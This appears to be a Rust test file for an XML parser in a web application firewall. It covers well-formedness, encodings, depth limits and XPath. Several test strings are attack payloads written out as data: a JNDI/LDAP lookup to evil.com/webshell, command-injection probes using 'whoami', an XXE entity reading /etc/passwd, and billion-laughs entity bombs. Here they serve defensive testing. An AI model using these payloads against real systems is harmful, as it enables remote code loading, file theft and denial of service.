use super::*;

fn doc(s: &str) -> (Option<XmlDoc>, bool) {
    parse_document(s.as_bytes())
}

fn ok(s: &str) -> XmlDoc {
    let (d, wf) = doc(s);
    assert!(wf, "should be well-formed: {s:?}");
    d.unwrap()
}

fn bad(s: &str) {
    let (_, wf) = doc(s);
    assert!(!wf, "should be malformed: {s:?}");
}

fn strs(v: &[Vec<u8>]) -> Vec<String> {
    v.iter()
        .map(|x| String::from_utf8_lossy(x).into_owned())
        .collect()
}

#[test]
fn crs_style_documents() {
    let d = ok(
        r#"<?xml version="1.0"?><root><a probe="alias eennvv=env&amp;eennvv whoami"></a></root>"#,
    );
    assert_eq!(strs(&d.attributes), vec!["alias eennvv=env&eennvv whoami"]);
    assert_eq!(strs(&d.text), vec![""]);
    let d = ok(r#"<?xml version="1.0"?><root><a probe="&#x7B;,echo,#test&#x7D;"></a></root>"#);
    assert_eq!(strs(&d.attributes), vec!["{,echo,#test}"]);
    let d = ok(
        r#"<?xml version="1.0"?><xml><l1><l2><l3><element attribute_name="attribute_value">BydW50aW1l</element></l3></l2></l1></xml>"#,
    );
    assert_eq!(strs(&d.text), vec!["BydW50aW1l"]);
    assert_eq!(strs(&d.attributes), vec!["attribute_value"]);
    let d = ok(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><tag attribute="${jndi:ldap://evil.com/webshell}"/>"#,
    );
    assert_eq!(
        strs(&d.attributes),
        vec!["${jndi:ldap://evil.com/webshell}"]
    );
    let d = ok(
        r#"<?xml version="1.0" encoding="UTF-8"?><catalog><tag>ftp%3A%2F%2F1.1.1.1</tag></catalog>"#,
    );
    assert_eq!(strs(&d.text), vec!["ftp%3A%2F%2F1.1.1.1"]);
    // 920240-4: escaped quotes are not attribute values.
    bad(
        r#"<SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\"></SOAP-ENV:Envelope>"#,
    );
    bad("test");
}

#[test]
fn content_concatenation() {
    let d = ok("<r>a<b>b<![CDATA[<c>]]></b><!-- x --><?pi y?>d&lt;&#65;&#x42;\n</r>");
    assert_eq!(strs(&d.text), vec!["ab<c>d<AB\n"]);
    assert_eq!(
        d.text_node_values()
            .map(|v| String::from_utf8_lossy(v).into_owned())
            .collect::<Vec<_>>(),
        vec!["a", "b", "<c>", "d<AB\n"]
    );
    assert_eq!(d.elements.len(), 2);
    assert_eq!(d.elements[1].name, b"b");
    let d = ok("<a>x\r\ny\rz</a>");
    assert_eq!(strs(&d.text), vec!["x\ny\nz"]);
}

#[test]
fn attributes_and_namespaces() {
    let d = ok("<a xmlns='urn:x' xmlns:p=\"urn:p\" p:x='1' y=\"a\tb\nc&#10;d\"><p:b z='&quot;&apos;'/></a>");
    assert_eq!(strs(&d.attributes), vec!["1", "a b c\nd", "\"'"]);
    assert_eq!(d.attribute_names[0].1, b"p:x");
    bad("<a x='1' x='2'/>");
    bad("<a x='1'y='2'/>");
    bad("<a x=1/>");
    bad("<a x='<'/>");
    bad("<a x='&foo;'/>");
}

#[test]
fn well_formedness() {
    for s in [
        "",
        "   ",
        "<a>",
        "<a></b>",
        "<a><b></a></b>",
        "<a/><b/>",
        "<a/>text",
        "text<a/>",
        "<a>&foo;</a>",
        "<a>&#0;</a>",
        "<a>&#xD800;</a>",
        "<a>]]></a>",
        "<a><!-- -- --></a>",
        "<a><?xml version='1.0'?></a>",
        "<?xml version='1.0'?><?xml version='1.0'?><a/>",
        "<a>\u{1}</a>",
        "<a><![CDATA[x</a>",
        "<1a/>",
        "<a>&amp</a>",
        "<a b/>",
        "<!DOCTYPE a [<!ENTITY e '%x;'>]><a/>",
        "<?xml version='2.0'?><a/>",
        "<?xml encoding='utf-8'?><a/>",
        "<a><!DOCTYPE a></a>",
    ] {
        bad(s);
    }
    for s in [
        "<a/>",
        " <a/> ",
        "<?xml version='1.0'?>\n<!-- c --><a/><!-- d -->\n<?pi x?>",
        "<a >x</a >",
        "<a\n\tb = 'c' />",
        "<?xml version='1.0' encoding='ISO-8859-1' standalone='no' ?><a/>",
        "<a>]]</a>",
        "<a>&#x10FFFF;</a>",
        "\u{feff}<a/>",
    ] {
        ok(s);
    }
    // Invalid UTF-8.
    let (_, wf) = parse_document(b"<a>\xff</a>");
    assert!(!wf);
}

#[test]
fn partial_document_kept() {
    let (d, wf) = doc("<root><a x='1'>hello</a><b>world");
    assert!(!wf);
    let d = d.unwrap();
    assert_eq!(strs(&d.text), vec!["helloworld"]);
    assert_eq!(strs(&d.attributes), vec!["1"]);
    let mut out = ParsedBody::default();
    parse(b"<a>", &mut out, false);
    assert_eq!(out.error.as_deref(), Some(ERROR_MSG));
    let mut out = ParsedBody::default();
    parse(b"", &mut out, false);
    assert!(out.error.is_none() && out.xml.is_none());
}

#[test]
fn dtd_entities() {
    let d = ok("<!DOCTYPE a [<!ENTITY e \"E&f;\"><!ENTITY f 'F&#x41;'><!ELEMENT a ANY><!ATTLIST a x CDATA '>'>]><a x='&e;'>&e;</a>");
    assert_eq!(strs(&d.text), vec!["EFA"]);
    assert_eq!(strs(&d.attributes), vec!["EFA"]);
    // External entities are not loaded.
    let d = ok("<!DOCTYPE a [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><a>x&xxe;y</a>");
    assert_eq!(strs(&d.text), vec!["xy"]);
    bad("<!DOCTYPE a [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><a b='&xxe;'/>");
    // Undeclared entity: fatal without an external subset, tolerated with one.
    bad("<!DOCTYPE a [<!ELEMENT a ANY>]><a>&u;</a>");
    ok("<!DOCTYPE a SYSTEM 'a.dtd'><a>&u;</a>");
    // Loops and billion laughs.
    bad("<!DOCTYPE a [<!ENTITY a '&b;'><!ENTITY b '&a;'>]><a>&a;</a>");
    let mut s = String::from("<!DOCTYPE a [<!ENTITY l0 'lollollollol'>");
    for k in 1..10 {
        let p = k - 1;
        s.push_str(&format!(
            "<!ENTITY l{k} '&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};'>"
        ));
    }
    s.push_str("]><a>&l9;</a>");
    bad(&s);
    // The same with entities that expand to nothing.
    let mut s = String::from("<!DOCTYPE a [<!ENTITY x SYSTEM 'x'><!ENTITY l0 '&x;'>");
    for k in 1..12 {
        let p = k - 1;
        s.push_str(&format!(
            "<!ENTITY l{k} '&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};'>"
        ));
    }
    s.push_str("]><a>&l11;</a>");
    let t = std::time::Instant::now();
    bad(&s);
    assert!(t.elapsed().as_secs() < 5);
}

#[test]
fn encodings() {
    let mut b = b"<?xml version='1.0' encoding='ISO-8859-1'?><a>".to_vec();
    b.push(0xE9);
    b.extend_from_slice(b"</a>");
    let (d, wf) = parse_document(&b);
    assert!(wf);
    assert_eq!(d.unwrap().text[0], "é".as_bytes());
    let mut b = b"<?xml version='1.0' encoding='windows-1252'?><a>".to_vec();
    b.push(0x80);
    b.extend_from_slice(b"</a>");
    assert_eq!(parse_document(&b).0.unwrap().text[0], "€".as_bytes());
    let u16le: Vec<u8> = "\u{feff}<a b='x'>hé</a>"
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    let (d, wf) = parse_document(&u16le);
    assert!(wf);
    assert_eq!(d.unwrap().text[0], "hé".as_bytes());
    let u16be: Vec<u8> = "<?xml version='1.0'?><a>z</a>"
        .encode_utf16()
        .flat_map(|u| u.to_be_bytes())
        .collect();
    let (d, wf) = parse_document(&u16be);
    assert!(wf);
    assert_eq!(d.unwrap().text[0], b"z");
    let (d, wf) = parse_document(b"<?xml version='1.0' encoding='IBM037'?><a/>");
    assert!(!wf && d.is_none());
}

#[test]
fn depth_and_size() {
    let deep = format!(
        "{}{}",
        "<a>".repeat(XML_MAX_DEPTH),
        "</a>".repeat(XML_MAX_DEPTH)
    );
    ok(&deep);
    let deeper = format!(
        "{}{}",
        "<a>".repeat(XML_MAX_DEPTH + 1),
        "</a>".repeat(XML_MAX_DEPTH + 1)
    );
    bad(&deeper);
    let huge = "<a>".repeat(1_000_000);
    bad(&huge);
    let many = format!("<r>{}</r>", "<x a='1' b='2'>t</x>".repeat(50_000));
    let d = ok(&many);
    assert_eq!(d.attributes.len(), 100_000);
    assert_eq!(d.text[0].len(), 50_000);
}

#[test]
fn xpath_subset() {
    let d = ok("<r a='1'><x b='2'>one<y c='3'>two</y></x><x>three</x><z><x>four</x></z></r>");
    let s = |e: &str| {
        d.eval_xpath(e).map(|v| {
            v.iter()
                .map(|x| String::from_utf8_lossy(x).into_owned())
                .collect::<Vec<_>>()
        })
    };
    assert_eq!(s("/*"), Some(vec!["onetwothreefour".to_string()]));
    assert_eq!(s("/"), Some(vec!["onetwothreefour".to_string()]));
    assert_eq!(s("//@*"), Some(vec!["1".into(), "2".into(), "3".into()]));
    assert_eq!(s("/r/x"), Some(vec!["onetwo".into(), "three".into()]));
    assert_eq!(
        s("//x"),
        Some(vec!["onetwo".into(), "three".into(), "four".into()])
    );
    assert_eq!(s("/r/@a"), Some(vec!["1".into()]));
    assert_eq!(s("/r/@*"), Some(vec!["1".into()]));
    assert_eq!(s("//x/@b"), Some(vec!["2".into()]));
    assert_eq!(
        s("/r//text()"),
        Some(vec![
            "one".into(),
            "two".into(),
            "three".into(),
            "four".into()
        ])
    );
    assert_eq!(s("/r/x/text()"), Some(vec!["one".into(), "three".into()]));
    assert_eq!(s("/q"), Some(vec![]));
    assert_eq!(
        s("//*"),
        Some(vec![
            "onetwothreefour".into(),
            "onetwo".into(),
            "two".into(),
            "three".into(),
            "four".into(),
            "four".into()
        ])
    );
    assert_eq!(s("//x[1]"), None);
    assert_eq!(s("count(//x)"), None);
    assert_eq!(s("//@*/x"), None);
}
